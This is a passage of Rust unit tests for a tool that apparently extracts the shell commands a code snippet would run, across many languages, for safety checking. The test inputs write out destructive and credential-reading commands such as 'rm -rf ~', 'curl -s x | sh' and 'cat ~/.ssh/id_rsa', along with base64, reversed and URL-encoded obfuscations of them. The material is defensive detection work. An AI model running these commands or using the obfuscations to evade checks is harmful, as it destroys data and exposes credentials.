        assert_eq!(deno_code(&args(&["eval", "--ext", "ts", "x()"])), ["x()"]);
        assert_eq!(deno_code(&args(&["run", "main.ts"])), Vec::<&str>::new());
    }

    #[test]
    fn python() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(py("import os; os.system('rm -rf /')"), ["rm -rf /"]);
        assert_eq!(
            py("import subprocess; subprocess.run(\"git push -f\", shell=True)"),
            ["git push -f"]
        );
        assert_eq!(
            py("import subprocess\nsubprocess.run(['rm', '-rf', '/'], check=True)"),
            ["rm -rf /"]
        );
        assert_eq!(
            py("from subprocess import call\ncall(('git', 'commit', '-m', 'a; rm -rf ~'))"),
            ["git commit -m 'a; rm -rf ~'"]
        );
        assert_eq!(py("os.system('rm -rf ' + home)"), ["rm -rf $X"]);
        assert_eq!(py("os.system(f'rm -rf {home}/x')"), ["rm -rf $X/x"]);
        assert_eq!(py("os.system('rm -rf %s' % home)"), ["rm -rf $X"]);
        assert_eq!(py("os.system('rm -rf {}'.format(home))"), ["rm -rf $X"]);
        assert_eq!(py("os.execvp('rm', ['rm', '-rf', p])"), ["rm -rf \"$X\""]);
        assert_eq!(
            py("os.execl('/bin/sh', 'sh', '-c', 'rm -rf ~')"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            py("os.execle('/bin/sh', 'sh', '-c', 'rm -rf ~', env)"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            py("os.execve('/bin/sh', ['sh', '-c', 'rm -rf ~'], {'A': 'b c'})"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            py("os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')"),
            ["rm -rf /"]
        );
        assert_eq!(
            py("os.posix_spawnp('sh', ['sh', '-c', 'rm -rf ~'], os.environ)"),
            ["sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            py("os.execl(sys.executable, sys.executable, '-c', 'x')"),
            ["\"$X\" -c x"]
        );
        // `sys.executable` is the interpreter, unless the code may have changed what it is.
        assert_eq!(
            py("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pytest'])"),
            ["python3 -m pytest"]
        );
        for code in [
            "import sys\nsys.executable = '/bin/rm'\nos.execl(sys.executable, 'x')",
            "import sys as s, sys\ns.executable = 'rm'\nos.execl(sys.executable, 'x')",
            "from m import *\nimport sys\nos.execl(sys.executable, 'x')",
            "import sys\nsetattr(sys, 'executable', 'rm')\nos.execl(sys.executable, 'x')",
            "import os, sys\nos.sys.executable = 'rm'\nos.execl(sys.executable, 'x')",
        ] {
            assert_eq!(py(code), ["\"$X\""], "{code}");
        }
        assert_eq!(
            py("os.popen(\"\"\"cat ~/.aws/credentials\"\"\")"),
            ["cat ~/.aws/credentials"]
        );
        // Not a command: data, a comment, a computed command, `run` of something else.
        assert!(py("print('rm -rf /')").is_empty());
        assert!(py("# os.system('rm -rf /')\nprint(1)").is_empty());
        assert!(py("os.system(cmd)").is_empty());
        assert!(py("app.run('0.0.0.0 x')").is_empty());
    }

    #[test]
    fn comments_and_quotes_keep_their_place() {
        // A quote inside a comment must not swallow the call after it.
        assert_eq!(
            commands(Lang::Python, "# it's fine\nos.system('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "// don't\nrequire('child_process').execSync(\"rm -rf ~\")"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Python, r#"os.system("echo \"x\"; rm -rf ~")"#),
            [r#"echo "x"; rm -rf ~"#]
        );
    }

    #[test]
    fn javascript() {
        let js = |text| commands(Lang::JavaScript, text);
        assert_eq!(
            js("require('child_process').execSync('curl -s x | sh')"),
            ["curl -s x | sh"]
        );
        assert_eq!(
            js(
                "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'], {stdio: 'inherit'})"
            ),
            ["rm -rf /"]
        );
        assert_eq!(js("cp.exec(`rm -rf ${dir}`, cb)"), ["rm -rf $X"]);
        assert_eq!(js("await Bun.$`rm -rf ~`"), ["rm -rf ~"]);
        let code = |args: &[&str]| {
            javascript_code(&args.iter().map(|a| (*a).to_owned()).collect::<Vec<_>>())
                .into_iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        };
        assert_eq!(code(&["-pe", "1"]), ["1"]);
        assert_eq!(code(&["-p", "-e", "1"]), ["1"]);
        assert_eq!(code(&["--require", "ts-node/register", "-e", "1"]), ["1"]);
        assert_eq!(code(&["--print=1"]), ["1"]);
        assert!(code(&["script.js", "-e", "1"]).is_empty());
        assert_eq!(
            js("new Deno.Command('rm', { args: ['-rf', '/'] }).outputSync()"),
            ["rm"]
        );
        // A template literal is a string, not a command, in JavaScript.
        assert!(js("console.log(`rm -rf ~`)").is_empty());
    }

    #[test]
    fn perl_ruby_php() {
        assert_eq!(
            commands(Lang::Perl, "system \"rm -rf ~\"; print 1"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Perl, "system('rm', '-rf', $dir)"),
            ["rm -rf \"$X\""]
        );
        assert_eq!(
            commands(Lang::Perl, "my $x = `cat ~/.ssh/id_rsa`"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(commands(Lang::Perl, "print qx{rm -rf ~}"), ["rm -rf ~"]);
        assert_eq!(
            commands(Lang::Perl, "open(my $f, '-|', 'cat', '/etc/shadow')"),
            ["cat /etc/shadow"]
        );
        assert_eq!(
            commands(Lang::Perl, "open(F, \"rm -rf ~ |\")"),
            ["rm -rf ~"]
        );
        assert!(commands(Lang::Perl, "open(F, '<', 'x.txt')").is_empty());
        assert_eq!(
            commands(Lang::Perl, "exec {'/bin/sh'} 'sh', '-c', 'rm -rf ~';"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            commands(Lang::Ruby, "exec(['/bin/sh', 'sh'], '-c', 'rm -rf ~')"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            commands(Lang::Ruby, "system \"rm -rf #{d}\""),
            ["rm -rf $X"]
        );
        assert_eq!(
            commands(Lang::Ruby, "puts %x(git push -f)"),
            ["git push -f"]
        );
        assert_eq!(commands(Lang::Ruby, "IO.popen('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            commands(Lang::Php, "echo shell_exec('rm -rf ~');"),
            ["rm -rf ~"]
        );
        assert_eq!(commands(Lang::Php, "echo `rm -rf ~`;"), ["rm -rf ~"]);
    }

    #[test]
    fn lua() {
        let lua = |text| commands(Lang::Lua, text);
        assert_eq!(lua("os.execute('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute \"rm -rf ~\""), ["rm -rf ~"]);
        assert_eq!(lua("os.execute[[rm -rf ~]]"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute([==[\nrm -rf ~]==])"), ["rm -rf ~"]);
        assert_eq!(
            lua("local h = io.popen('cat ~/.ssh/id_rsa'):read('*a')"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(lua("os.execute('rm -rf ' .. home)"), ["rm -rf $X"]);
        assert_eq!(lua("os.execute('rm -r' .. 'f ~')"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute('rm -rf \\126')"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute(\"rm -rf \\x7e\")"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute(\"rm -rf \\u{7e}\")"), ["rm -rf ~"]);
        assert_eq!(lua("local run = os.execute; run('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(lua("os.execute(string.char(114, 109, 32, 126))"), ["rm ~"]);
        assert_eq!(lua("os.execute(('~ fr- mr'):reverse())"), ["rm -rf ~"]);
        assert_eq!(lua("load(\"os.execute('rm -rf ~')\")()"), ["rm -rf ~"]);
        assert_eq!(
            lua("os.remove(os.getenv('HOME') .. '/.ssh/id_rsa')"),
            ["rm -f -- ~/.ssh/id_rsa"]
        );
        // Comments, and `#` is no comment.
        assert!(lua("-- os.execute('rm -rf ~')\nprint(1)").is_empty());
        assert!(lua("--[[ os.execute('rm -rf ~') ]] print(1)").is_empty());
        assert!(lua("--[==[ os.execute('rm -rf ~') ]==] print(1)").is_empty());
        assert_eq!(lua("print(#t) os.execute('rm -rf ~')"), ["rm -rf ~"]);
        assert!(lua("print('rm -rf ~')").is_empty());
        assert!(lua("os.execute(cmd)").is_empty());
    }

    #[test]
    fn jvm_languages() {
        let jvm = |text: &str| commands(Lang::Jvm, text);
        assert_eq!(jvm(r#""rm -rf ~".execute()"#), ["rm -rf ~"]);
        assert_eq!(jvm(r#"["rm", "-rf", "/"].execute()"#), ["rm -rf /"]);
        assert_eq!(jvm(r#"import sys.process._; "rm -rf ~".!"#), ["rm -rf ~"]);
        assert_eq!(jvm(r#"Seq("rm", "-rf", "/").!!"#), ["rm -rf /"]);
        assert_eq!(
            jvm(r#"new ProcessBuilder("rm", "-rf", "/").start()"#),
            ["rm -rf /"]
        );
        assert_eq!(
            jvm(r#"new File(System.getProperty("user.home")).deleteDir()"#),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            jvm(r#"File("/x/.bashrc").appendText("y")"#),
            ["printf %s \"$X\" >> /x/.bashrc"]
        );
        assert_eq!(
            jvm(r#"new File("/x/.bashrc") << "y""#),
            ["printf %s \"$X\" >> /x/.bashrc"]
        );
        assert_eq!(
            jvm(r#"Files.writeString(Path.of("/x/.bashrc"), "y")"#),
            ["printf %s \"$X\" > /x/.bashrc"]
        );
        // `//` starts a comment; a `#` does not.
        assert!(jvm(r#"// "rm -rf ~".execute()"#).is_empty());
        assert!(jvm(r#"println "hello""#).is_empty());
    }

    #[test]
    fn elixir_and_erlang() {
        let elixir = |text: &str| commands(Lang::Elixir, text);
        assert_eq!(elixir(r#"System.cmd("rm", ["-rf", "/"])"#), ["rm -rf /"]);
        assert_eq!(elixir(r#":os.cmd(~c"rm -rf ~")"#), ["rm -rf ~"]);
        assert_eq!(
            elixir(r#"File.rm_rf!(System.user_home())"#),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            elixir(r#"File.write!(System.user_home() <> "/.bashrc", "x", [:append])"#),
            ["printf %s \"$X\" >> ~/.bashrc"]
        );
        assert!(elixir(r#"# System.shell("id")"#).is_empty());
        let erlang = |text: &str| commands(Lang::Erlang, text);
        assert_eq!(erlang(r#"os:cmd("rm -rf ~"), halt()."#), ["rm -rf ~"]);
        assert_eq!(erlang(r#"file:del_dir_r("/x")"#), ["rm -rf -- /x"]);
        assert_eq!(
            erlang(r#"file:write_file(os:getenv("HOME") ++ "/.bashrc", <<"x">>)"#),
            ["printf %s \"$X\" > ~/.bashrc"]
        );
        assert!(erlang(r#"% os:cmd("id")"#).is_empty());
    }

    #[test]
    fn julia() {
        let jl = |text| commands(Lang::Julia, text);
        assert_eq!(jl("run(`rm -rf ~`)"), ["rm -rf ~"]);
        assert_eq!(
            jl("read(`cat $(homedir())/.ssh/id_rsa`, String)"),
            ["cat \"$X\"/.ssh/id_rsa"]
        );
        assert_eq!(jl("run(`rm -rf $dir`)"), ["rm -rf \"$X\""]);
        assert_eq!(jl("run(`sh -c \"rm -rf ~\"`)"), ["sh -c 'rm -rf ~'"]);
        assert_eq!(jl("run(`git commit -m 'a b'`)"), ["git commit -m 'a b'"]);
        assert_eq!(jl("run(pipeline(`echo hi`, `sh`))"), ["echo hi", "sh"]);
        assert_eq!(
            jl("success(`git push --force origin main`)"),
            ["git push --force origin main"]
        );
        assert_eq!(jl("run(Cmd([\"rm\", \"-rf\", d]))"), ["rm -rf \"$X\""]);
        assert_eq!(jl("eval(Meta.parse(\"run(`rm -rf ~`)\"))"), ["rm -rf ~"]);
        assert_eq!(
            jl("rm(joinpath(homedir(), \".ssh\"); recursive=true, force=true)"),
            ["rm -rf -- ~/.ssh"]
        );
        assert_eq!(jl("rm(\"/tmp/x\")"), ["rm -f -- /tmp/x"]);
        // Comments, a transpose, a character, text.
        assert!(jl("# run(`rm -rf ~`)\nprintln(1)").is_empty());
        assert!(jl("#= run(`rm -rf ~`) =# println(1)").is_empty());
        assert_eq!(jl("x = a' * b'; run(`ls`)"), ["ls"]);
        assert_eq!(jl("c = '`'; run(`ls`)"), ["ls"]);
        assert!(jl("println(\"rm -rf ~\")").is_empty());
        assert!(jl("run(`$cmd`)").is_empty());
    }

    #[test]
    fn r() {
        let r = |text| commands(Lang::R, text);
        assert_eq!(r("system('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            r("x <- system(\"cat ~/.ssh/id_rsa\", intern = TRUE)"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(r("system2('rm', c('-rf', '~'))"), ["rm -rf ~"]);
        assert_eq!(
            r("system2(\"git\", args = \"push --force origin main\")"),
            ["git push --force origin main"]
        );
        assert_eq!(
            r("system2(command = 'rm', args = c('-rf', d))"),
            ["rm -rf $X"]
        );
        assert_eq!(r("shell('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            r("readLines(pipe('cat ~/.aws/credentials'))"),
            ["cat ~/.aws/credentials"]
        );
        assert_eq!(r("processx::run('rm', c('-rf', '/'))"), ["rm -rf /"]);
        assert_eq!(r("system(paste('rm -rf', d))"), ["rm -rf $X"]);
        assert_eq!(r("system(paste0('rm -rf ', '~'))"), ["rm -rf ~"]);
        assert_eq!(r("system(r\"(rm -rf ~)\")"), ["rm -rf ~"]);
        assert_eq!(
            r("eval(parse(text = \"system('rm -rf ~')\"))"),
            ["rm -rf ~"]
        );
        assert_eq!(
            r("unlink('~/.ssh', recursive = TRUE)"),
            ["rm -rf -- ~/.ssh"]
        );
        assert_eq!(
            r("file.remove(file.path(Sys.getenv('HOME'), '.ssh', 'id_rsa'))"),
            ["rm -f -- ~/.ssh/id_rsa"]
        );
        assert!(r("# system('rm -rf ~')\nprint(1)").is_empty());
        assert!(r("print('rm -rf ~')").is_empty());
        assert!(r("system(cmd)").is_empty());
        assert!(r("unlink(tmp)").is_empty());
    }

    #[test]
    fn url_decoded() {
        assert_eq!(
            commands(
                Lang::Python,
                "import urllib.parse,os; os.system(urllib.parse.unquote('rm%20-rf%20~'))"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::Python,
                "from urllib.parse import unquote_plus; import os; os.system(unquote_plus('rm+-rf+%7E'))"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "require('child_process').execSync(decodeURIComponent('rm%20-rf%20%7E'))"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Php, "system(urldecode('rm+-rf+%7E'));"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Perl, "system(uri_unescape('rm%20-rf%20~'))"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Ruby, "system(CGI.unescape('rm+-rf+~'))"),
            ["rm -rf ~"]
        );
        // Decoded at run time: GridSite's `urlencode -d` is the shell's spelling.
        assert_eq!(
            commands(
                Lang::Python,
                "import os,sys,urllib.parse; os.system(urllib.parse.unquote(sys.argv[1]))"
            ),
            ["sh -c \"$(urlencode -d \"$X\")\""]
        );
    }

    #[test]
    fn escapes() {
        assert_eq!(
            commands(Lang::Python, r"os.system('rm -rf \x7e')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Python, r"os.system('rm -rf \u007e/\176')"),
            ["rm -rf ~/~"]
        );
        assert_eq!(
            commands(Lang::Python, r"os.system('a\\x7e \d')"),
            [r"a\x7e \d"]
        );
        assert_eq!(
            commands(Lang::Python, r"os.system(r'rm -rf \x7e')"),
            [r"rm -rf \x7e"]
        );
        assert_eq!(
            commands(Lang::Python, "os.system('rm -rf \\\n~')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::JavaScript, r"execSync('rm -rf \u{7e} \x7e \176 \q')"),
            ["rm -rf ~ ~ ~ q"]
        );
        assert_eq!(
            commands(Lang::JavaScript, r"execSync(String.raw`a\x7e`)"),
            [r"a\x7e"]
        );
        assert_eq!(
            commands(Lang::Perl, r#"system("rm -rf \x{7e} \176 \N{U+7E}")"#),
            ["rm -rf ~ ~ ~"]
        );
        assert_eq!(
            commands(Lang::Perl, r"system('rm -rf \x7e \\ \'')"),
            [r"rm -rf \x7e \ '"]
        );
        assert_eq!(
            commands(Lang::Perl, r"print qq{rm -rf \x7e}; print qx{rm -rf \x7e}"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Perl, r"print qx'rm -rf \x7e'"),
            [r"rm -rf \x7e"]
        );
        assert_eq!(
            commands(Lang::Ruby, r#"system("rm -rf \u{7e}"); system('a\x7e')"#),
            ["rm -rf ~", r"a\x7e"]
        );
        assert_eq!(commands(Lang::Ruby, r"%x(rm -rf \x7e)"), ["rm -rf ~"]);
        assert_eq!(
            commands(Lang::Php, r#"shell_exec("rm -rf \x7e \u{7e} \d");"#),
            [r"rm -rf ~ ~ \d"]
        );
        assert_eq!(
            commands(Lang::Php, r"shell_exec('rm -rf \x7e');"),
            [r"rm -rf \x7e"]
        );
    }

    #[test]
    fn perl_home_in_strings() {
        assert_eq!(
            commands(Lang::Perl, "print `cat $ENV{HOME}/.ssh/id_rsa`"),
            ["cat $HOME/.ssh/id_rsa"]
        );
        assert_eq!(
            commands(Lang::Perl, "print qx{rm -rf $ENV{'HOME'}}"),
            ["rm -rf $HOME"]
        );
    }

    #[test]
    fn perl_quote_forms() {
        assert_eq!(commands(Lang::Perl, "print qx'rm -rf ~'"), ["rm -rf ~"]);
        assert_eq!(commands(Lang::Perl, "print qx#rm -rf ~#"), ["rm -rf ~"]);
        assert_eq!(
            commands(Lang::Perl, "print readpipe('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Perl, "print readpipe \"rm -rf ~\";"),
            ["rm -rf ~"]
        );
    }

    #[test]
    fn split_and_aliased_calls() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(py("os.system \\\n  ('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(py("x = (os.system\n('rm -rf ~'))"), ["rm -rf ~"]);
        assert_eq!(
            py("from os import system as s; s('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            py("from os import (getcwd,\n system as s)\ns('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(py("import os as o; o.system('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            py("from subprocess import run as r; r(['rm', '-rf', '/'])"),
            ["rm -rf /"]
        );
        assert_eq!(py("import os; s = os.system; s('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            py("import os; getattr(os, 'system')('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "const { execSync: run } = require('child_process'); run('rm -rf ~')"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "const run = require('child_process').execSync; run('rm -rf ~')"
            ),
            ["rm -rf ~"]
        );
        // Not a call: a comparison.
        assert!(py("import os as o; print(o.getcwd() == 'rm -rf ~')").is_empty());
    }

    #[test]
    fn decoded_commands() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(
            py("import base64,os; os.system(base64.b64decode('cm0gLXJmIH4=').decode())"),
            ["rm -rf ~"]
        );
        assert_eq!(py("import os; os.system('~ fr- mr'[::-1])"), ["rm -rf ~"]);
        assert_eq!(
            py("from base64 import b64decode as d; import os; os.system(d('cm0gLXJmIH4='))"),
            ["rm -rf ~"]
        );
        assert_eq!(
            py("import os; getattr(os, 'sys' + 'tem')('rm -rf ~')"),
            ["rm -rf ~"]
        );
        // Decoded at run time: the shell runs what a decoder makes.
        let hidden = ["sh -c \"$(base64 -d <<< \"$X\")\""];
        assert_eq!(
            py("import base64,os,sys; os.system(base64.b64decode(sys.argv[1]))"),
            hidden
        );
        assert_eq!(
            py("import base64,os,sys; c = base64.b64decode(sys.argv[1]); os.system(c)"),
            hidden
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "require('child_process').execSync(Buffer.from(process.argv[1], 'base64').toString())"
            ),
            hidden
        );
        assert_eq!(
            commands(Lang::Perl, "system(decode_base64($ARGV[0]))"),
            hidden
        );
        // In an argv, a decoded value is what the decoder makes: a shell given it with `-c` runs
        // a hidden payload.
        for code in [
            "import subprocess,base64,sys; subprocess.run(['sh','-c', base64.b64decode(sys.argv[1])])",
            "import subprocess,base64,sys; subprocess.Popen(('sh', '-c', base64.b64decode(x).decode()))",
            "import os,base64; os.execvp('sh', ['sh', '-c', base64.b64decode(x)])",
            "import subprocess,base64; c = base64.b64decode(x); subprocess.run(['sh','-c',c])",
        ] {
            assert_eq!(py(code), hidden, "{code}");
        }
        assert_eq!(
            py("import os,base64; os.execl('/bin/sh', 'sh', '-c', base64.b64decode(x))"),
            ["/bin/sh -c \"$(base64 -d <<< \"$X\")\""]
        );
        assert_eq!(
            py("import subprocess; subprocess.run(['sh', '-c', bytes.fromhex(x).decode()])"),
            ["sh -c \"$(xxd -r -p <<< \"$X\")\""]
        );
        assert_eq!(
            py("import subprocess,base64; subprocess.run(['sh', '-c', base64.b32decode(x)])"),
            ["sh -c \"$(base32 -d <<< \"$X\")\""]
        );
        let js = |text| commands(Lang::JavaScript, text);
        assert_eq!(
            js(
                "require('child_process').spawnSync('sh', ['-c', Buffer.from(x, 'base64').toString()])"
            ),
            hidden
        );
        assert_eq!(
            js("require('child_process').execFileSync('bash', ['-c', atob(x)])"),
            ["bash -c \"$(base64 -d <<< \"$X\")\""]
        );
        assert_eq!(
            commands(Lang::Ruby, "system('sh', '-c', Base64.decode64(x))"),
            hidden
        );
        assert_eq!(
            commands(Lang::Perl, "system('sh', '-c', decode_base64($x))"),
            hidden
        );
        // Data decoded for another program's argv is that program's to read; what runs it is
        // the walker's to judge (a program that runs no code runs no payload).
        assert_eq!(
            py("subprocess.run(['tool', base64.b64decode(k)])"),
            ["tool \"$(base64 -d <<< \"$X\")\""]
        );
        // A text conversion is no decoding: the value stays a run-time part.
        assert_eq!(
            py("subprocess.run(['sh', '-c', x.decode('utf-8')])"),
            ["sh -c \"$X\""]
        );
    }

    #[test]
    fn code_the_program_evaluates() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(
            py("exec('import os; os.system(\"rm -rf ~\")')"),
            ["rm -rf ~"]
        );
        // `import os; os.system('rm -rf ~')`, in base64.
        assert_eq!(
            py(
                "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk='))"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            py("import base64,sys; exec(base64.b64decode(sys.argv[1]))"),
            ["python3 -c \"$(base64 -d <<< \"$X\")\""]
        );
        assert_eq!(
            commands(
                Lang::JavaScript,
                "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgficp'))"
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::JavaScript, "new Function(atob(process.argv[2]))()"),
            ["node -e \"$(base64 -d <<< \"$X\")\""]
        );
        assert_eq!(
            commands(Lang::Ruby, "eval('system(\"rm -rf ~\")')"),
            ["rm -rf ~"]
        );
        // Past the depth read, the code is a hidden payload.
        let literal = [Token::Str {
            text: "print(1)".to_owned(),
            runs: false,
        }];
        assert_eq!(
            evaluated(
                Lang::Python,
                &[&literal],
                &[],
                MAX_EVAL_DEPTH,
                &Budget::default()
            ),
            ["python3 -c \"$(base64 -d <<< \"$X\")\""]
        );
        // Code that runs no command; code only known at run time.
        assert!(py("exec('print(1)')").is_empty());
        assert!(py("exec(open('setup.py').read())").is_empty());
        assert!(commands(Lang::Perl, "eval { system('ls') }; print 1").len() == 1);
    }

    #[test]
    fn removal_through_a_library() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(
            py("shutil.rmtree('/x', ignore_errors=True)"),
            ["rm -rf -- /x"]
        );
        assert_eq!(
            py("os.remove(os.path.expanduser('~/.ssh/id_rsa'))"),
            ["rm -f -- ~/.ssh/id_rsa"]
        );
        assert_eq!(py("os.removedirs('a/b')"), ["rmdir -p -- a/b"]);
        assert_eq!(
            py("Path('/x/y').unlink(missing_ok=True)"),
            ["rm -f -- /x/y"]
        );
        assert_eq!(py("(Path.home() / 'x').rmdir()"), ["rmdir -- ~/x"]);
        assert_eq!(
            py("shutil.rmtree(root + '/build')"),
            ["rm -rf -- \"$X\"/build"]
        );
        assert_eq!(
            py("shutil.rmtree('/x' if a else b)"),
            ["rm -rf -- /x\"$X\""]
        );
        // An operand with no literal is not looked into; nor is a list's `remove`.
        assert!(py("shutil.rmtree(tmp)").is_empty());
        assert!(py("sys.path.remove('/usr/lib/x')").is_empty());
        let js = |text| commands(Lang::JavaScript, text);
        assert_eq!(js("fs.rmSync('/x', { recursive: true })"), ["rm -rf -- /x"]);
        assert_eq!(js("fs.rmSync('/x')"), ["rm -f -- /x"]);
        assert_eq!(
            js("await fs.promises.rm(path.join(os.homedir(), 'x'), {force: true})"),
            ["rm -f -- ~/x"]
        );
        assert_eq!(
            js("fs.unlinkSync(process.env.HOME + '/.npmrc')"),
            ["rm -f -- ~/.npmrc"]
        );
        assert_eq!(
            commands(Lang::Ruby, "FileUtils.rm_rf(['/a', '/b'])"),
            ["rm -rf -- /a /b"]
        );
        assert_eq!(
            commands(Lang::Ruby, "FileUtils.rm(File.join(Dir.home, 'x'))"),
            ["rm -f -- ~/x"]
        );
        assert_eq!(
            commands(Lang::Perl, "unlink $ENV{HOME} . '/x', '/y';"),
            ["rm -f -- ~/x /y"]
        );
        assert_eq!(
            commands(Lang::Php, "rmdir($_SERVER['HOME']);"),
            ["rmdir -- ~"]
        );
    }

    #[test]
    fn writes_through_a_library() {
        let py = |text| commands(Lang::Python, text);
        assert_eq!(
            py("open('/x/y', 'a').write(s)"),
            ["printf %s \"$X\" >> /x/y"]
        );
        assert_eq!(
            py("io.open(os.path.expanduser('~/.x'), mode='wb')"),
            ["printf %s \"$X\" > ~/.x"]
        );
        assert_eq!(py("open('/x', 'r+')"), ["printf %s \"$X\" >> /x"]);
        assert_eq!(
            py("Path.home().joinpath('.x').write_text(s)"),
            ["printf %s \"$X\" > ~/.x"]
        );
        assert_eq!(
            py("(Path.home() / '.x').open('a')"),
            ["printf %s \"$X\" >> ~/.x"]
        );
        assert_eq!(py("shutil.copy(src, '/x')"), ["cp -- \"$X\" /x"]);
        assert_eq!(py("os.replace('a', 'b')"), ["mv -- a b"]);
        // Reads, a path with no literal, and a string's `replace` are not writes.
        assert!(py("open('/x').read()").is_empty());
        assert!(py("open('/x', 'rb')").is_empty());
        assert!(py("open(p, 'w')").is_empty());
        assert!(py("p.write_text('x')").is_empty());
        assert!(py("'a'.replace('a', 'b')").is_empty());
        let js = |text| commands(Lang::JavaScript, text);
        assert_eq!(
            js("fs.writeFileSync('/x', d, { flag: 'a' })"),
            ["printf %s \"$X\" >> /x"]
        );
        assert_eq!(
            js("fs.promises.appendFile(process.env.HOME + '/.x', d)"),
            ["printf %s \"$X\" >> ~/.x"]
        );
        assert_eq!(js("fs.openSync('/x', 'w')"), ["printf %s \"$X\" > /x"]);
        assert_eq!(
            js("fs.cpSync('a', '/x', {recursive: true})"),
            ["cp -- a /x"]
        );
        assert_eq!(js("fs.renameSync(a, '/x')"), ["mv -- \"$X\" /x"]);
        assert!(js("window.open('/x', '_blank')").is_empty());
        let perl = |text| commands(Lang::Perl, text);
        assert_eq!(
            perl("open(F, \">>$ENV{HOME}/.x\")"),
            ["printf %s \"$X\" >> '$HOME/.x'"]
        );
        assert_eq!(
            perl("open my $fh, '>:raw', '/x';"),
            ["printf %s \"$X\" > /x"]
        );
        assert_eq!(perl("open(F, '+<', '/x')"), ["printf %s \"$X\" >> /x"]);
        assert_eq!(perl("copy('a', '/x')"), ["cp -- a /x"]);
        assert!(perl("open(F, '<', '/x')").is_empty());
        assert!(perl("open(F, '/x')").is_empty());
        assert!(perl("open(STDOUT, '>&STDERR')").is_empty());
        assert!(perl("open(F, '>' . $path)").is_empty());
        let ruby = |text| commands(Lang::Ruby, text);
        assert_eq!(
            ruby("File.write('/x', s, mode: 'a')"),
            ["printf %s \"$X\" >> /x"]
        );
        assert_eq!(
            ruby("File.open(File.join(Dir.home, '.x'), 'w')"),
            ["printf %s \"$X\" > ~/.x"]
        );
        assert_eq!(ruby("FileUtils.mv(['a', 'b'], '/x')"), ["mv -- a b /x"]);
        assert!(ruby("File.open('/x')").is_empty());
        let php = |text| commands(Lang::Php, text);
        assert_eq!(
            php("file_put_contents('/x', $d, FILE_APPEND | LOCK_EX);"),
            ["printf %s \"$X\" >> /x"]
        );
        assert_eq!(php("fopen('/x', 'c+');"), ["printf %s \"$X\" >> /x"]);
        assert_eq!(php("rename('a', '/x');"), ["mv -- a /x"]);
        assert!(php("fopen('/x', 'r');").is_empty());
        assert_eq!(
            commands(Lang::Lua, "io.open('/x', 'w')"),
            ["printf %s \"$X\" > /x"]
        );
        assert_eq!(
            commands(Lang::Julia, "open(\"/x\", \"a\") do io end"),
            ["printf %s \"$X\" >> /x"]
        );
        assert_eq!(
            commands(Lang::R, "writeLines(x, con = '~/.x')"),
            ["printf %s \"$X\" > ~/.x"]
        );
        assert_eq!(commands(Lang::R, "file.copy('a', '/x')"), ["cp -- a /x"]);
    }

    #[test]
    fn home_built_paths() {
        let names = |lang, text, from_stdin| {
            let code = Code {
                lang,
                text,
                from_stdin,
            };
            home_names(&resolve_aliases(tokens(&code), |_| false), lang, from_stdin)
        };
        assert_eq!(
            names(Lang::Python, "Path.home() / '.ssh' / 'id_rsa'", false),
            ["~/.ssh/id_rsa"]
        );
        assert_eq!(
            names(
                Lang::Python,
